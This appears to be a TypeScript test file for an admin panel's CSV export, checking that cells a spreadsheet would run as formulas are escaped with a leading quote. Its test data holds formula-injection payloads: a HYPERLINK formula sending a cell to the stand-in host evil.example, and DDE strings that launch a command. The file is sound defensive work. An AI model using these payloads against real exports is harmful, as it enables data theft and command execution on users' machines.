import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { tabs } from '../../../src/app/admin/resources';
import { listOf, renderPanel, testDataProvider } from './support';

/** What an attacker can put in a name, an address, a note ...: each would run in a spreadsheet. */
const attack = {
  id: 7,
  full_name: '=HYPERLINK("http://evil.example/?d="&C2,"Klik")',
  phone: '+6281234567890',
  address: "-2+3+cmd|' /C calc'!A0",
  email: "@SUM(1+1)*cmd|' /C calc'!A0",
  note: '\t=1+1',
  description: '\r=1+1',
  location_name: 'Desa; =1+1',
  petani: { full_name: '=1+1' },
  tags: ['aman', '=1+1'],
  luas: -5,
  created_at: '2025-01-20T07:05:00.000Z',
};

/** The cells of a CSV whose every cell is quoted. */
const cellsOf = (line = '') =>
  [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell = '']) => cell.replace(/""/g, '"'));

async function exportCsv(resource: string): Promise<string> {
  let blob: Blob | undefined;
  Object.assign(URL, {
    createObjectURL: vi.fn((b: Blob) => ((blob = b), 'blob:export')),
    revokeObjectURL: vi.fn(),
  });
  // The list shows a plain row; the export (which asks for up to 1000 rows) gets the attack.
  const getList = vi.fn(async (_r: string, { pagination }: { pagination: { perPage: number } }) =>
    pagination.perPage > 100
      ? { data: [attack], total: 1 }
      : { data: [{ id: 7, created_at: attack.created_at }], total: 1 },
  );
  renderPanel(`/${resource}`, testDataProvider({ getList }));
  const button = await screen.findByRole('button', { name: 'Ekspor' });
  await waitFor(() => expect(button).toBeEnabled());
  await userEvent.click(button);
  await waitFor(() => expect(blob).toBeDefined());
  return blob!.text();
}

afterEach(() => {
  Reflect.deleteProperty(URL, 'createObjectURL');
  Reflect.deleteProperty(URL, 'revokeObjectURL');
});

/** Lists without an Export button (a test keeps each so: below, and the outbox's in notifications/admin.test.tsx); every other list exports. */
const WITHOUT_EXPORT = ['audit', 'outbox'];

describe('CSV export of every list', () => {
  it('the audit log offers no export', async () => {
    const getList = listOf([{ id: 7, created_at: attack.created_at }]);
    renderPanel('/audit', testDataProvider({ getList }));
    await screen.findByText('–');
    expect(screen.queryByRole('button', { name: 'Ekspor' })).toBeNull();
  });

  it.each(tabs.map((r) => r.name).filter((name) => !WITHOUT_EXPORT.includes(name)))(
    '%s: a cell a spreadsheet would run as a formula starts with a quote; columns as before',
    async (resource) => {
      const [header, row, ...rest] = (await exportCsv(resource)).split('\n');
      expect(rest).toEqual([]);
      expect(cellsOf(header)).toEqual([
        'id',
        'full_name',
        'phone',
        'address',
        'email',
        'note',
        'description',
        'location_name',
        'petani.full_name',
        'tags',
        'luas',
        'created_at',
      ]);
      expect(cellsOf(row)).toEqual([
        '7',
        `'=HYPERLINK("http://evil.example/?d="&C2,"Klik")`,
        "'+6281234567890",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'\t=1+1",
        "'\r=1+1",
        'Desa; =1+1',
        "'=1+1",
        "aman;'=1+1",
        '-5',
        '2025-01-20T07:05:00.000Z',
      ]);
    },
  );
});
